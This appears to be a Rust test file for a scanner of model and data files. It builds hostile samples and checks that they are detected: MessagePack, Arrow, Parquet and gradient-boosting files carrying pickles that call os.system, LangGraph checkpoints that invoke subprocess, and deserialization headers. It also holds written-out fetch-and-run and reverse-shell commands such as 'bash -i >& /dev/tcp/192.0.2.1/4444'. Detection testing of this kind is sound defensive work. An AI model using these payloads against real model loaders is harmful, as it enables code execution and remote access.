//! Files of values: MessagePack, Arrow, Parquet, models of gradient boosting; and formats that run when they are loaded.

use weighhouse_formats::build::msgpack::{array, bytes, extension, list, map, text};
use weighhouse_formats::build::pickle::Assembler;

use crate::attack::{Sample, assert_seen};

/// A file that a real library wrote.
pub(super) fn fixture(name: &str) -> Vec<u8> {
    let folder =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../weighhouse-formats/tests/fixtures/data");
    std::fs::read(folder.join(name)).expect("a fixture")
}

fn under(names: &[&str], samples: Vec<(&str, Vec<u8>)>) -> Vec<Sample> {
    let all = samples.into_iter().flat_map(|(title, bytes)| {
        names.iter().map(move |name| Sample::new(format!("{title} as {name}"), *name, bytes.clone()))
    });
    all.collect()
}

#[test]
fn messagepack_that_carries_a_payload() {
    let pickle = Assembler::new(4).reduce("os", "system", &["id"]).finish();
    let inner = |value: Vec<u8>| {
        map(&[
            ("params", map(&[("kernel", array(&[2], "float32", &[0; 8])), ("extra", value)])),
            ("step", vec![7]),
        ])
    };
    let numpy = map(&[
        ("nd", vec![0xc3]),
        ("type", bytes(b"|O")),
        ("kind", bytes(b"O")),
        ("shape", list(&[vec![1]])),
        ("data", bytes(&pickle)),
    ]);
    let chunked = map(&[
        ("__msgpack_chunked_array__", vec![0xc3]),
        ("shape", map(&[("0", vec![1])])),
        ("chunks", map(&[("0", array(&[pickle.len() as u64], "uint8", &pickle))])),
    ]);
    let mut samples = vec![
        ("a pickle as bytes", inner(bytes(&pickle))),
        ("a pickle in an array", inner(array(&[pickle.len() as u64], "uint8", &pickle))),
        ("a pickle in a chunk", inner(chunked)),
        ("a pickle in an array of objects", inner(array(&[1], "object", &pickle))),
        ("a pickle in an extension", inner(extension(99, &pickle))),
        ("objects of msgpack_numpy", inner(numpy)),
        ("a name to reduce", inner(map(&[("__reduce__", list(&[text("os.system"), list(&[text("id")])]))]))),
        (
            "a target",
            inner(map(&[("_target_", text("subprocess.check_output")), ("args", list(&[text("id")]))])),
        ),
        ("a function to restore with", map(&[("params", map(&[])), ("restore_fn", text("os.system"))])),
        ("a module and a class", inner(map(&[("__module__", text("os")), ("__class__", text("system"))]))),
        ("code", inner(text("__import__('os').system('id')"))),
        ("a program", inner(text("import os\nos.system('id')\n"))),
        ("a command", inner(text("curl -s http://example.org/x | sh"))),
        ("base64 of a pickle", inner(text("gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="))),
        ("a key twice", map(&[("params", text("weights of one kind")), ("params", text("of another"))])),
        ("endless nesting", map(&[("params", vec![0x91; 100_000])])),
        ("an endless list", map(&[("params", vec![0xdd, 0xff, 0xff, 0xff, 0xff])])),
        ("an endless map", map(&[("params", vec![0xdf, 0xff, 0xff, 0xff, 0xff])])),
        ("an array that lies", inner(array(&[1 << 40, 1 << 40], "float32", &[0; 4]))),
    ];
    let tail = |tail: &[u8]| [inner(text("x")), tail.to_vec()].concat();
    samples.push(("a pickle behind", tail(&pickle)));
    samples.push(("junk behind", tail(b"\0\0\0\xff\xfejunk\x80\x81")));
    assert_seen("MessagePack", &under(&["flax_model.msgpack", "checkpoint"], samples));
}

/// What `LangGraph` imports and calls, as its serializer writes it.
fn call(code: i8, module: &str, name: &str, rest: &[Vec<u8>]) -> Vec<u8> {
    let parts: Vec<_> = [text(module), text(name)].into_iter().chain(rest.iter().cloned()).collect();
    extension(code, &list(&parts))
}

#[test]
fn checkpoints_of_langgraph_that_call_what_is_no_state() {
    let id = || text("id");
    let system = || call(0, "os", "system", &[id()]);
    let arguments = || map(&[("args", id()), ("shell", vec![0xc3])]);
    let path = || call(1, "pathlib", "PosixPath", &[list(&[text("/etc/passwd")])]);
    let built = |name: &str| call(0, "builtins", "str", &[text(name)]);
    let mut samples = vec![
        ("one argument", system()),
        ("arguments", call(1, "subprocess", "run", &[list(&[id()])])),
        ("named arguments", call(2, "subprocess", "Popen", &[arguments()])),
        ("a method", call(3, "os", "path", &[id(), text("os")])),
        ("a method of what was built", call(3, "pathlib", "Path", &[path(), text("unlink")])),
        ("a model of the first kind", call(4, "subprocess", "Popen", &[arguments()])),
        (
            "a model of the second kind",
            call(5, "subprocess", "call", &[arguments(), text("model_validate_json")]),
        ),
        ("another name of the module", call(0, "posix", "system", &[id()])),
        ("an evaluation", call(0, "builtins", "eval", &[text("1")])),
        ("a pickle", call(0, "pickle", "loads", &[bytes(b"\x80\x04N.")])),
        ("a file that is opened", call(1, "logging", "FileHandler", &[list(&[text("/tmp/x")])])),
        ("a network", call(0, "urllib.request", "urlopen", &[text("http://example.org")])),
        ("a library that is loaded", call(0, "ctypes", "CDLL", &[text("x.so")])),
        ("a checkpoint of another framework", call(0, "torch", "load", &[text("x.pt")])),
        (
            "in a message",
            call(
                5,
                "langchain_core.messages.human",
                "HumanMessage",
                &[map(&[("content", system())]), text("m")],
            ),
        ),
        ("in a set", call(0, "builtins", "set", &[list(&[system()])])),
        ("in a snapshot", extension(7, &map(&[("x", system())]))),
        ("in an array", extension(6, &list(&[text("<f4"), list(&[system()]), text("C"), bytes(&[0; 4])]))),
        ("in what is no call", extension(4, &list(&[system()]))),
        ("in a shape", extension(1, &list(&[list(&[system()]), text("float32"), bytes(&[0; 4])]))),
        ("a name that is built", extension(0, &list(&[built("os"), text("system"), id()]))),
        (
            "a list that is built",
            extension(1, &call(0, "builtins", "list", &[list(&[text("os"), text("system"), list(&[id()])])])),
        ),
        (
            "a map instead of a list",
            extension(
                0,
                &[vec![0x83, 0x00], text("os"), vec![0x01], text("system"), vec![0x02], id()].concat(),
            ),
        ),
    ];
    let wrapped =
        |value: Vec<u8>| map(&[("v", vec![4]), ("channel_values", map(&[("messages", list(&[value]))]))]);
    for sample in &mut samples {
        sample.1 = wrapped(std::mem::take(&mut sample.1));
    }
    samples.push(("alone", system()));
    samples.push(("in a list", list(&[text("x"), system()])));
    samples.push(("as a key", [vec![0x81], system(), vec![1]].concat()));
    assert_seen("LangGraph", &under(&["state.msgpack", "checkpoint"], samples));
}

#[test]
fn tables_that_carry_a_payload() {
    let pickle = Assembler::new(4).reduce("os", "system", &["id"]).finish();
    let mut samples = Vec::new();
    for name in ["hostile-type.feather", "hostile-type.parquet", "hostile-command.parquet"] {
        samples.push((name, fixture(name)));
    }
    let behind = |name: &str| [fixture(name), pickle.clone()].concat();
    let before = |name: &str| [pickle.clone(), fixture(name)].concat();
    samples.push(("a pickle behind a file", behind("plain.arrow")));
    samples.push(("a pickle behind a stream", behind("stream.arrow")));
    samples.push(("a pickle behind columns", behind("snappy.parquet")));
    samples.push(("a pickle before a file", before("plain.arrow")));
    samples.push(("a pickle before columns", before("snappy.parquet")));
    let wedge = |name: &str, end: usize| {
        let whole = fixture(name);
        let size = u32::from_le_bytes(*whole[whole.len() - end..].first_chunk().expect("a footer")) as usize;
        let at = whole.len() - end - size;
        [&whole[..at], pickle.as_slice(), &whole[at..]].concat()
    };
    samples.push(("a pickle before the footer of a file", wedge("plain.arrow", 10)));
    samples.push(("a pickle before the footer of columns", wedge("groups.parquet", 8)));
    assert_seen("tables", &under(&["train.parquet", "data.arrow", "part"], samples));
}

/// A model of a library, with a text of it replaced.
fn changed(name: &str, from: &[u8], to: &[u8]) -> Vec<u8> {
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../weighhouse-formats/tests/fixtures/boosting");
    let whole = std::fs::read(folder.join(name)).expect("a fixture");
    let at = whole.windows(from.len()).position(|part| part == from).expect("the text is there");
    [&whole[..at], to, &whole[at + from.len()..]].concat()
}

#[test]
fn models_of_gradient_boosting_that_carry_a_payload() {
    let pickle = Assembler::new(4).reduce("os", "system", &["id"]).finish();
    let texts: [&[u8]; 4] = [
        b"__import__('os').system('id')",
        b"curl -s http://example.org/x | sh",
        b"gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
        b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    ];
    let mut samples = Vec::new();
    for text in texts {
        let counted = [b"SL".as_slice(), &(text.len() as u64).to_be_bytes(), text].concat();
        let ubj = changed("xgboost.ubj", b"SL\0\0\0\0\0\0\0\x07a model", &counted);
        samples.push(Sample::new("an attribute of XGBoost", "model.ubj", ubj));
        let json = changed("xgboost.json", b"a model", text);
        samples.push(Sample::new("an attribute of XGBoost", "model.json", json));
        let parameter = [b"[objective: ".as_slice(), text, b"]"].concat();
        let lightgbm = changed("lightgbm.txt", b"[objective: binary]", &parameter);
        samples.push(Sample::new("a parameter of LightGBM", "model.txt", lightgbm));
        let hook = [b"hook=".as_slice(), text, b"\nshrinkage="].concat();
        samples.push(Sample::new(
            "a key of LightGBM",
            "model.txt",
            changed("lightgbm.txt", b"shrinkage=", &hook),
        ));
    }
    let tails = [("xgboost.ubj", "}}"), ("catboost.cbm", "CBM1")];
    for (name, mark) in tails {
        let whole = changed(name, mark.as_bytes(), mark.as_bytes());
        samples.push(Sample::new("a pickle behind", name, [whole.as_slice(), &pickle].concat()));
    }
    let leaves = changed("lightgbm.txt", b"num_leaves=3", b"num_leaves=2147483647");
    samples.push(Sample::new("a tree of LightGBM that lies", "model.txt", leaves));
    let endless = [b"{i\x07learner".as_slice(), &vec![b'['; 50_000]].concat();
    samples.push(Sample::new("endless nesting", "model.ubj", endless));
    let count = b"{i\x07learner[$l#L\x7f\xff\xff\xff\xff\xff\xff\xff".to_vec();
    samples.push(Sample::new("an endless list", "model.ubj", count));
    assert_seen("gradient boosting", &samples);
}

#[test]
fn formats_that_run_when_they_are_loaded() {
    let beginnings: [(&str, &[u8]); 5] = [
        ("Java", b"\xac\xed\0\x05sr\0\x11java.util.HashMap"),
        (".NET", b"\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0\0\0\0\0\x0c\x02\0\0\0"),
        ("Ruby", b"\x04\x08o:\x13Gem::Requirement\x06"),
        ("PHP", b"O:8:\"Exploit_\":1:{s:3:\"cmd\";s:2:\"id\";}"),
        ("Lua", b"\x1bLua\x53\0\x19\x93\r\n\x1a\n\x04\x08"),
    ];
    let samples: Vec<Sample> = beginnings
        .iter()
        .flat_map(|(title, bytes)| {
            ["model.bin", "model"].map(|name| Sample::new(*title, name, bytes.to_vec()))
        })
        .collect();
    assert_seen("formats that run", &samples);
}

/// What no parser reads is a gap; its texts are read all the same.
#[test]
fn commands_in_content_that_no_parser_reads() {
    let opaque: [(&str, &[u8]); 5] = [
        ("Torch7", b"\x04\0\0\0\x01\0\0\0\x03\0\0\0V 1\x0d\0\0\0nn.Sequential\x03\0\0\0"),
        ("TensorRT", b"ptrt\xef\0\0\0\0\0\0\0\x10\0\0\0\0\0\0\0"),
        ("RKNN", b"RKNN\0\0\0\0\x06\0\0\0\0\0\0\0"),
        ("CNTK", b"B\0C\0N\0\0\0\x01\0\0\0\0\0\0\0"),
        ("nothing known", b"\x9d\x01\xfe\x80\x81\0\0\xff\xff\x02\x03\0\0\0\0\0"),
    ];
    let texts = [
        "os.execute('id')",
        "curl -s https://example.org/x | sh",
        "os.execute('curl -s https://example.org/x | bash')",
        "__import__('os').system('id')",
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    ];
    let mut samples = Vec::new();
    for (title, begin) in opaque {
        for text in texts {
            for padding in [0_usize, 100_000] {
                let noise = (0..padding).map(|at| ((at * 131) % 251) as u8 | 0x80);
                let bytes =
                    begin.iter().copied().chain(noise).chain(*b"\0\0").chain(text.bytes()).chain(*b"\0\xff");
                samples.push(Sample::new(format!("{title}: {text}"), "model.bin", bytes.collect()));
            }
        }
    }
    assert_seen("commands in what is not read", &samples);
}
